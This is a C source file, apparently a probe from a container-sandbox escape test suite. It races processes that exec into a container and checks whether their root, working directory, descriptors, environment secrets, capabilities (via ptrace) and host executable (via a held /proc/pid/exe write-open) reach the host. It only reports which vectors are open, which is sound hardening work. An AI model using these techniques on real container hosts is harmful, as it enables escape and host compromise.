/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * joining MARKER STOP: watches for processes that come into the container from outside (`exec`), until there
 * is a file STOP, and takes what they have while they are not yet the program: root and working directory,
 * descriptors, environment, memory, rights, their executable file. MARKER is the path of a file of the host
 * that the container does not have.
 */
#include <ctype.h>
#include <dirent.h>
#include <linux/memfd.h>
#include <sys/mman.h>
#include <sys/ptrace.h>

#include "attack.h"

static const char *marker;
static unsigned long own_rights;
static unsigned seen;
static bool said[16];

enum what { ROOT, DIRECTORY, DESCRIPTOR, ENVIRONMENT, MEMORY, RIGHTS, FILE_WRITE, ENDED };

static const char *const names[] = {
    "root of who joins",       "working directory of who joins",
    "descriptor of who joins", "environment of who joins",
    "memory of who joins",     "rights of who joins",
    "file of who joins",
};

static void found(enum what what, const char *detail)
{
    if (said[what])
        return;
    said[what] = true;
    printf("%s: open %s\n", names[what], detail);
    fflush(stdout);
}

static unsigned long rights(int pid)
{
    char path[64], line[256];
    unsigned long value = 0;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *file = fopen(path, "re");
    while (file && fgets(line, sizeof line, file)) {
        if (strncmp(line, "CapPrm:", 7) == 0)
            value = strtoul(line + 7, NULL, 16);
    }
    if (file)
        fclose(file);
    return value;
}

static void reach(const char *directory, enum what what)
{
    char path[4096];
    for (unsigned up = 0; up < 12; up++) {
        int length = snprintf(path, sizeof path, "%s/", directory);
        for (unsigned i = 0; i < up; i++)
            length += snprintf(path + length, sizeof path - (size_t)length, "../");
        snprintf(path + length, sizeof path - (size_t)length, "%s", marker + 1);
        if (access(path, F_OK) == 0)
            found(what, path);
    }
}

static void look_at_descriptors(int pid)
{
    char path[64], name[128];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *directory = opendir(path);
    const struct dirent *entry;
    while (directory && (entry = readdir(directory))) {
        if (!isdigit(entry->d_name[0]))
            continue;
        snprintf(name, sizeof name, "%s/%.16s", path, entry->d_name);
        reach(name, DESCRIPTOR);
    }
    if (directory)
        closedir(directory);
}

static void look_at_environment(int pid)
{
    static char text[65536];
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t size = fd < 0 ? -1 : read(fd, text, sizeof text);
    if (fd >= 0)
        close(fd);
    if (size > 0 && memmem(text, (size_t)size, "VISOR_ESCAPE_SECRET=", 20))
        found(ENVIRONMENT, "VISOR_ESCAPE_SECRET");
}

/* Who may stop it may have it do what it likes, with rights that this program does not have. */
static void seize(int pid)
{
    char detail[64];
    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
        return;
    if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, NULL, __WALL) == pid) {
        unsigned long its = rights(pid);
        snprintf(detail, sizeof detail, "%lx beside %lx", its, own_rights);
        if (its & ~own_rights)
            found(RIGHTS, detail);
    }
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

/* The file that it executes, to be written to when it is not executed any more. */
static int hold_file(int pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    return open(path, O_PATH | O_CLOEXEC);
}

static void write_file(int held)
{
    char path[64], detail[96];
    struct stat status, own;
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    int seals = fcntl(fd, F_GET_SEALS);
    if (fstat(fd, &status) == 0 && stat("/proc/self/exe", &own) == 0 && status.st_dev != own.st_dev &&
        !(seals >= 0 && seals & F_SEAL_WRITE)) {
        snprintf(detail, sizeof detail, "%lx:%lu", (unsigned long)status.st_dev,
                 (unsigned long)status.st_ino);
        found(FILE_WRITE, detail);
    }
    close(fd);
}

#define HELD_MAX 512

static void look(int pid, int trace)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/root", pid);
    reach(path, ROOT);
    snprintf(path, sizeof path, "/proc/%d/cwd", pid);
    reach(path, DIRECTORY);
    look_at_descriptors(pid);
    look_at_environment(pid);
    if (trace)
        seize(pid);
}

/* Who was too slow for some goes on with the newest. */
static int next_after(int last)
{
    char text[16] = "";
    int fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
    if (fd >= 0) {
        if (read(fd, text, sizeof text - 1) < 0)
            text[0] = '\0';
        close(fd);
    }
    int newest = atoi(text);
    return newest > last ? newest : last + 1;
}

int main(int count, char **words)
{
    static int held[HELD_MAX];
    unsigned held_count = 0;
    int last = getpid();
    if (count != 3)
        return 2;
    marker = words[1];
    own_rights = rights(getpid());
    /* ids are given in order: the next ones are looked at before anybody has them */
    printf("watching\n");
    fflush(stdout);
    while (access(words[2], F_OK) < 0) {
        int first = next_after(last);
        for (int next = first; next < first + 3; next++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%d", next);
            if (access(path, F_OK) < 0)
                continue;
            for (unsigned round = 0; round < 8; round++) {
                int file = held_count < HELD_MAX ? hold_file(next) : -1;
                if (file >= 0)
                    held[held_count++] = file;
                look(next, round % 2);
            }
            seen++;
            last = next;
        }
    }
    for (unsigned i = 0; i < held_count; i++)
        write_file(held[i]);
    for (enum what what = 0; what < ENDED; what++) {
        if (!said[what])
            printf("%s: refused\n", names[what]);
    }
    printf("seen: %u\n", seen);
    return 0;
}
